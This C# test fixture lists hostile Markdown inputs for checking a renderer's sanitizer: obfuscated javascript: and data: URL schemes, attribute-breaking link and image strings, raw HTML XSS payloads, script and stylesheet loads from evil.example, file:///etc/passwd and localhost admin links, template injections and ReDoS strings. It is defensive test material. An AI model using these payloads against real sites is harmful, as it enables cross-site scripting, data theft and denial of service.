namespace CommonsForge.Interop.Tests.Markdown;

/// <summary>Texts that try to run a script, to call a third party, to dress up as the site or to break the page. Each tries to set <c>window.pwned</c>.</summary>
public static class HostileMarkdown
{
    private const string Js = "javascript:pwned=1";

    private static readonly string[] Schemes =
    [
        "javascript:pwned=1", "JaVaScRiPt:pwned=1", "  javascript:pwned=1", "&#106;avascript:pwned=1", "&#x6A;&#x61;vascript&colon;pwned=1",
        "&#1;javascript:pwned=1", "&#0;javascript:pwned=1", "java&#10;script:pwned=1", "java&Tab;script&colon;pwned=1", "java\tscript:pwned=1",
        "<java\nscript:pwned=1>", "<java script:pwned=1>", "<javascript:pwned=1 >", "< javascript:pwned=1>", "\\javascript:pwned=1", "javascript\\:pwned=1",
        "javascript&#58pwned=1", "javascript&#58;pwned=1", "javascript&#0000058;pwned=1", "javascript%3Apwned=1", "javascript&amp;colon;pwned=1",
        "java\u0000script:pwned=1", "java\u00ADscript:pwned=1", "java\u200Bscript:pwned=1", "\u00A0javascript:pwned=1", "\uFEFFjavascript:pwned=1",
        "\u2028javascript:pwned=1", "\u202Ejavascript:pwned=1", "\u0001javascript:pwned=1", "&#x7f;javascript:pwned=1", "javas\u0441ript:pwned=1",
        "ｊａｖａｓｃｒｉｐｔ:pwned=1", "javascript://ok.org/%0Apwned=1", "javascript:/*--></title><script>pwned=1</script>", "vbscript:pwned=1", "livescript:pwned=1",
        "data:text/html,<script>parent.pwned=1</script>", "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+", "DATA:text/html,x",
        "data:image/svg+xml,<svg/onload=pwned=1>", "data&colon;text/html,x", "file:///etc/passwd", "view-source:javascript:pwned=1", "blob:https://ok.org/x",
        "filesystem:https://ok.org/x", "about:blank", "chrome://settings", "ws://evil.example/", "ftp://evil.example/x", "tel:+33899", "sms:81234", "intent://x#Intent;end",
        "ms-msdt:/id x", "//evil.example/x", "///evil.example", "////evil.example", "\\\\\\\\evil.example", "/\\\\evil.example", "\\\\/evil.example", "/&Tab;/evil.example",
        "/&#10;/evil.example", "https:evil.example", "https:/evil.example", "https:\\\\\\\\evil.example", "https://", "https://mairie.fr@evil.example/",
        "https://mairie.fr:80@evil.example", "https://mairie.fr&#64;evil.example", "https://evil.example\\\\@ok.org", "https://mairie.fr%40evil.example",
        "https://mairie.fr\u2215x@evil.example", "x:pwned", "jar:https://ok.org!/", "mhtml:https://ok.org!x", "javascript:pwned=1//https://ok.org", "https&colon;javascript:pwned=1",
    ];

    private static readonly string[] Attributes =
    [
        "[x](https://ok.org \"a\\\" onmouseover=pwned=1 \\\"\")", "[x](https://ok.org 'a\" onfocus=pwned=1 autofocus x=\"')", "[x](https://ok.org (a\" onclick=\"pwned=1))",
        "[x](https://ok.org/\"onmouseover=pwned=1)", "[x](https://ok.org/'onmouseover='pwned=1)", "[x](https://ok.org/&quot;onmouseover=pwned=1//)",
        "[x](<https://ok.org/\" onmouseover=\"pwned=1>)", "[x](https://ok.org/`onmouseover=pwned=1`)", "[x](https://ok.org/?a=<script>pwned=1</script>)",
        "[x](https://ok.org \"&quot; onmouseover=pwned=1\")", "[x](https://ok.org \"\n\nonclick=pwned=1\")", "![a\" onerror=\"pwned=1](https://evil.example/i.png)",
        "![a\" onerror=\"pwned=1](images/plan.svg)", "![a' onerror='pwned=1](images/plan.svg 't\" onload=\"pwned=1')", "![<script>pwned=1</script>](images/plan.svg)",
        "![&quot; onerror=&quot;pwned=1](images/plan.svg)", "![x](images/plan.svg \"</figcaption><script>pwned=1</script>\")", "![x](images/plan.svg '\"><svg onload=pwned=1>')",
        "![x](images/plan.svg \"&lt;img src=x onerror=pwned=1&gt;\")", "![x](images/plan.svg (a) \"b\" onerror=pwned=1)", "![`\" onerror=pwned=1`](images/plan.svg)",
        "![*\" onerror=pwned=1*](images/plan.svg)", "# t {onclick=pwned=1}", "[x](https://ok.org){onclick=pwned=1}", "texte {#id .btn style=\"position:fixed\"}",
        "```html\" onmouseover=\"pwned=1\n<b>\n```", "```x&#32;btn&#32;btn-danger\ncode\n```", "```x\" onload=pwned=1 y=\"\ncode\n```", "~~~<script>pwned=1</script>\ncode\n~~~",
        "```&#34;&#62;&#60;svg&#32;onload=pwned=1&#62;\n```", "`\"><script>pwned=1</script>`", "1\" onclick=pwned=1. a", "::: warning {onclick=pwned=1}\nx\n:::",
    ];

    private static readonly string[] RawHtml =
    [
        "<script>pwned=1</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>pwned=1</scr</script>ipt>", "<img src=x onerror=pwned=1>",
        "<img src=https://evil.example/pixel.gif>", "<svg/onload=pwned=1>", "<svg><script>pwned=1</script></svg>", "<svg><a xlink:href=\"javascript:pwned=1\"><text>x</text></a></svg>",
        "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>", "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>", "<iframe src=javascript:pwned=1></iframe>",
        "<iframe srcdoc=\"<script>parent.pwned=1</script>\">", "<object data=javascript:pwned=1>", "<embed src=javascript:pwned=1>", "<form action=javascript:pwned=1><button>x</button></form>",
        "<button formaction=javascript:pwned=1>x</button>", "<input autofocus onfocus=pwned=1>", "<details open ontoggle=pwned=1>", "<video><source onerror=pwned=1></video>",
        "<audio src=x onerror=pwned=1>", "<body onload=pwned=1>", "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "<style>*{background:url(https://evil.example)}</style>", "<style>@import 'https://evil.example/x.css'</style>",
        "<p style=\"position:fixed;inset:0\">x</p>", "a <b onclick=pwned=1>c</b>", "<a href=\"javascript:pwned=1\">x</a>", "<a href=https://ok.org ping=https://evil.example>x</a>",
        "<!-- --><script>pwned=1</script>", "<!--><img src=x onerror=pwned=1>-->", "<![CDATA[<script>pwned=1</script>]]>", "<?php pwned ?><script>pwned=1</script>", "<!DOCTYPE x><script>pwned=1</script>",
        "</p></div></main><script>pwned=1</script>", "<template><script>pwned=1</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
        "<textarea></textarea><img src=x onerror=pwned=1>", "<title></title><script>pwned=1</script>", "<xmp><img src=x onerror=pwned=1>", "<plaintext>", "<marquee onstart=pwned=1>",
        "<x contenteditable onfocus=pwned=1 tabindex=1 id=x>", "<portal src=https://evil.example>", "<dialog open>x</dialog>", "<slot onslotchange=pwned=1>", "<script\n>pwned=1</script\n>",
        "&lt;script&gt;pwned=1&lt;/script&gt;", "&#60;script&#62;pwned=1&#60;/script&#62;", "<div>\n\n[x](javascript:pwned=1)\n\n</div>", "<img\nsrc=x\nonerror=pwned=1>",
        "<a href=\"https://ok.org\n\">x</a> <script>pwned=1", "<img src=x onerror=pwned=1", "<!doctype html><html onmouseover=pwned=1>",
    ];

    private static readonly string[] Shapes =
    [
        $"[x][r]\n\n[r]: {Js}", $"[r]\n\n[r]: <{Js}> \"t\"", $"[R]\n\n[r]:\n{Js}\n'\"onclick=pwned=1'", $"![i][r]\n\n[r]: data:text/html,x", "![i][r]\n\n[r]: https://evil.example/i.png",
        $"![i]({Js})", "![i](data:image/svg+xml;base64,AAA)", "![i](//evil.example/i.png)", "![i](https://evil.example/i.png)", "![i](HTTPS://EVIL.EXAMPLE/i.png \"légende\")", "![i](../../etc/passwd)",
        "![i](https:\\\\evil.example\\i.png)", "![i](images/plan.svg?x=\"onerror=pwned=1)", "![](https://evil.example/pixel.gif)", "![i](http://127.0.0.1:5080/admin)",
        $"[![i]({Js})]({Js})", $"[![i](images/plan.svg)]({Js})", $"[![i](https://evil.example/i.png)](https://ok.org)", $"![[x]({Js})](images/plan.svg)", "[a [b](https://ok.org) c](https://evil.example)",
        "![![![i](https://evil.example/a.png)](https://evil.example/b.png)](https://evil.example/c.png)", $"<{Js}>", "<data:text/html,x>", "<vbscript:pwned>", "<mailto:a@b.org\"onclick=pwned=1>", "<a@b.org?body=x>",
        "<a@b.org&quot;onclick=pwned=1>", Js, "www.evil.example\"onclick=pwned=1", "https://ok.org/\"onclick=pwned=1", "https://ok.org/<script>pwned=1</script>", "mailto:a@b.org\"onclick=pwned=1",
        $"| a | b |\n|---|---|\n| [x]({Js}) | <img src=x onerror=pwned=1> |", "| a\" onclick=pwned=1 |\n|:-:|\n| b |", "|<script>|\n|-|\n|pwned=1</script>|", "| `|` <svg onload=pwned=1> |\n|-|\n|x|",
        "| a |\n|:--\" style=\"x|\n| b |", $"note[^1]\n\n[^1]: [x]({Js})", "note[^\"onclick=pwned=1]\n\n[^\"onclick=pwned=1]: <script>pwned=1</script>", "[^1]: a[^1]\n\nb[^1]", "[a[^1]](https://ok.org)\n\n[^1]: [x](https://ok.org)",
        $"> [!NOTE]\n> [x]({Js})", "> [!\"onclick=pwned=1]\n> x", "> [!script]\n> pwned=1", "> [!TIP] <img src=x onerror=pwned=1>\n> x", "> [!WARNING]\n> > [!NOTE]\n> > <svg onload=pwned=1>",
        $"- [ ] [x]({Js})", $"- [x]({Js})", "- [x] <input autofocus onfocus=pwned=1>", $"* [x]\n  [x]: {Js}", "# constructor\n\n# __proto__\n\n# location\n\n# body\n\n# t-body", "# <img src=x onerror=pwned=1>",
        "# a\" onmouseover=\"pwned=1", "# [x](javascript:pwned=1)", "getElementById\n===", "# note_1\n\na[^1]\n\n[^1]: b", "# \u202Eabc\u202C", "a\u202Egnp.exe\u2066b", "&#x202E;abc&#8294;", "\u0000\u0001\u0008\u000B\u001B[31m",
        "\uD800 a \uDC00", "[x](#\"onclick=pwned=1)", "[x](#%22onclick%3Dpwned=1)", "[x](#javascript:pwned=1)", "[x](?javascript:pwned=1)", "[x](./javascript:pwned=1)", "[x](javascript:pwned=1", "[x]( javascript:pwned=1 \"t\" )",
        "[javascript:pwned=1]: javascript:pwned=1\n\n[javascript:pwned=1]", "---\ntitle: <script>pwned=1</script>\n---\nx", "$$<script>pwned=1</script>$$", "@import url(https://evil.example/x.css)", "{{constructor.constructor('pwned=1')()}}",
        "${pwned=1}", "@(pwned=1)", "<%= pwned %>", "[[x|javascript:pwned=1]]", "![video](https://evil.example/x.mp4)", "![](https://www.youtube.com/watch?v=x)", "https://www.youtube.com/watch?v=x\"onclick=pwned=1",
        "http://evil.example/w/x", "*[x](javascript:pwned=1)*", "**<svg onload=pwned=1>**", "Terme\n: <script>pwned=1</script>", "*[HTML]: <script>pwned=1</script>\n\nHTML", "^^^ <script>pwned=1</script>\n![x](images/plan.svg)\n^^^",
        "==x=={onclick=pwned=1}", ":smile\" onclick=pwned=1:", "(c) \"'`<>", "\\<script>pwned=1\\</script>", "\\\\<script>pwned=1</script>", "    <script>pwned=1</script>", "\t<script>pwned=1</script>",
    ];

    private static readonly string[] Bombs =
    [
        new('[', 20_000), new('>', 20_000), new(']', 20_000), new('|', 20_000), new('`', 20_000), new('*', 20_000), new('#', 20_000), new('<', 20_000), new('&', 20_000), new('\\', 20_000),
        Times("![", 10_000), Times("[a](", 5_000), Times("- ", 10_000), Times("1. ", 7_000), Times("*a **a ", 3_000), Times("a_ ", 7_000), Times("[^", 10_000), Times("<http:", 3_000), Times("(http://a.b/", 2_000),
        new string('*', 200) + "a" + new string('*', 200), Times("|a", 3_000) + "\n" + Times("|-", 3_000) + "\n" + Times("|\n", 3_000), Times("[a]", 200) + new string('(', 20_000), "a\n" + Times("=\n", 9_000),
    ];

    /// <summary>Every hostile text; links and images are tried with every scheme.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. Schemes.Select(s => $"[x]({s})"), .. Schemes.Select(s => $"![x]({s})"), .. Attributes, .. RawHtml, .. Shapes, .. Bombs];

    private static string Times(string text, int count) => string.Concat(Enumerable.Repeat(text, count));
}
